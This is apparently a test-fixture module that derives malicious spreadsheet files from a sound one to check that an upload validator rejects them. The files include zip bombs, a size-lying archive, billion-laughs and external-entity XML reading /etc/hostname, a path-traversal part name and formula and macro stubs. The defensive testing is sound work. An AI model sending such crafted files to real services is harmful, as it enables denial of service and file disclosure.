"""Files that somebody might send in place of an update sheet, each made from a sound one."""

from __future__ import annotations

import io
import random
import string
import zipfile
from collections.abc import Callable

import openpyxl

Make = Callable[[bytes], bytes]
SHEET = "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def changed(
    data: bytes, part: str, old: bytes, new: bytes, how: int = zipfile.ZIP_DEFLATED
) -> bytes:
    parts = parts_of(data)
    assert old in parts[part]
    return packed(parts | {part: parts[part].replace(old, new, 1)}, how)


def _declared(part: str, doctype: str, used: str) -> Make:
    def make(data: bytes) -> bytes:
        text = parts_of(data)[part]
        start = text.index(b"?>") + 2
        with_type = text[:start] + doctype.encode() + text[start:]
        return packed(parts_of(data) | {part: with_type.replace(b"<t>", b"<t>" + used.encode(), 1)})

    return make


def _bomb(data: bytes) -> bytes:
    return packed(parts_of(data) | {"xl/media/image1.xml": b"<a>" + b"0" * (60 << 20) + b"</a>"})


def _huge(data: bytes) -> bytes:
    return packed(parts_of(data) | {"xl/media/image1.png": b"0" * (80 << 20)})


def _lying(data: bytes) -> bytes:
    """The archive's list says a thousand bytes; far more come out."""
    whole = changed(data, SHEET, b"<sheetData>", b" " * (3 << 20) + b"<sheetData>")
    size = len(parts_of(whole)[SHEET]).to_bytes(4, "little")
    return whole.replace(size, (1000).to_bytes(4, "little"))


def _many(data: bytes) -> bytes:
    return packed(parts_of(data) | {f"xl/p{n}.xml": b"<a/>" for n in range(600)})


def _formulas(data: bytes) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets[1:5]:
        for row in sheet.iter_rows(min_row=3):
            for cell in row:
                cell.value = '=HYPERLINK("http://example.org/"&A1)'
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _flood(data: bytes) -> bytes:
    cells = b"".join(b"<row><c><f>1+1</f></c></row>" for _ in range(6000))
    return changed(data, SHEET, b"</sheetData>", cells + b"</sheetData>")


def _cells(data: bytes) -> bytes:
    row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
    return changed(data, SHEET, b"</sheetData>", row * 9000 + b"</sheetData>", zipfile.ZIP_STORED)


def _text(filler: bytes, how: int) -> Make:
    def make(data: bytes) -> bytes:
        cell = b'<row><c t="inlineStr"><is><t>' + filler + b"</t></is></c></row>"
        return changed(data, SHEET, b"</sheetData>", cell + b"</sheetData>", how)

    return make


def _noise(size: int) -> bytes:
    letters = random.Random(1).choices(string.ascii_letters, k=1 << 20)
    return ("".join(letters) * (size // (1 << 20))).encode()


HOSTILE: dict[str, tuple[Make, str, str]] = {
    "zip bomb": (_bomb, "unsafe-sheet", "200 times its size"),
    "zip bomb of pictures": (_huge, "sheet-too-large", "unpacks to more than 64 MB"),
    "zip bomb that lies": (_lying, "unreadable-sheet", "not a sound .xlsx"),
    "many parts": (_many, "unsafe-sheet", "more than 500 parts"),
    "external entity": (
        _declared(STRINGS, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),
        "unsafe-sheet", "declares a document type"),
    "external entity in the workbook": (
        _declared("xl/workbook.xml", '<!DOCTYPE x SYSTEM "http://example.org/x.dtd">', ""),
        "unsafe-sheet", "declares a document type"),
    "billion laughs": (
        _declared(STRINGS, f"<!DOCTYPE x [{_LAUGHS}]>", "&l9;"),
        "unsafe-sheet", "declares a document type"),
    "cell in the last corner": (
        lambda data: changed(data, SHEET, b"</sheetData>",
                             b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        "sheet-too-large", "stands at XFD1048576"),
    "formula in every cell": (_formulas, "unsafe-sheet", "formulas stand in"),
    "flood of formulas": (_flood, "sheet-too-large", "more than 5,000 formulas"),
    "a flood of cells": (_cells, "sheet-too-large", "more than 480,000 cells"),
    "a flood of styles": (
        lambda data: changed(data, "xl/styles.xml", b"</cellXfs>", b"<xf/>" * 400_000 + b"</cellXfs>", zipfile.ZIP_STORED),
        "sheet-too-large", "something else"),
    "macros": (lambda data: packed(parts_of(data) | {"xl/vbaProject.bin": b"x"}),
               "unsafe-sheet", "it holds macros"),
    "renamed .xls": (lambda _: _OLE + b"\0" * 600 + "Workbook".encode("utf-16-le") + b"\0" * 600,
                     "unreadable-sheet", "an old .xls file"),
    "password": (lambda _: _OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
                 "unreadable-sheet", "protected by a password"),
    "50 MB of text in a cell": (_text(_noise(50 << 20), zipfile.ZIP_STORED),
                                "sheet-too-large", "larger than 20 MB"),
    "50 MB of text in a cell, packed": (_text(_noise(50 << 20), zipfile.ZIP_DEFLATED),
                                        "sheet-too-large", "larger than 20 MB"),
    "50 MB of one letter in a cell": (_text(b"a" * (50 << 20), zipfile.ZIP_DEFLATED),
                                      "unsafe-sheet", "200 times its size"),
    "10 MB of text in a cell": (_text(_noise(10 << 20), zipfile.ZIP_STORED),
                                "sheet-too-large", "more text than a spreadsheet can"),
    "a part that climbs out": (lambda data: packed(parts_of(data) | {"../../x.xml": b"<a/>"}),
                               "unsafe-sheet", "outside the file"),
    "an OpenDocument sheet": (
        lambda _: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "unreadable-sheet", "OpenDocument"),
    "a paper": (lambda _: packed({"word/document.xml": b"<a/>"}),
                "unreadable-sheet", "not an .xlsx workbook"),
    "nothing": (lambda _: b"", "unreadable-sheet", "not a sound .xlsx"),
    "text": (lambda _: b"Ref,New rating\n1.1,Red\n", "unreadable-sheet", "not a sound .xlsx"),
    "cut off": (lambda data: data[: len(data) // 2], "unreadable-sheet", "not a sound .xlsx"),
    "broken markup": (lambda data: changed(data, SHEET, b"</row>", b"</raw>"),
                      "unreadable-sheet", "cannot be read as a workbook"),
    "no hidden sheet": (lambda data: changed(data, "xl/workbook.xml", b'"About"', b'"Abort"'),
                        "not-a-sheet", "no update sheet"),
}  # fmt: skip
"""What is wrong with a file: how it is made, the code and the reason that are told."""
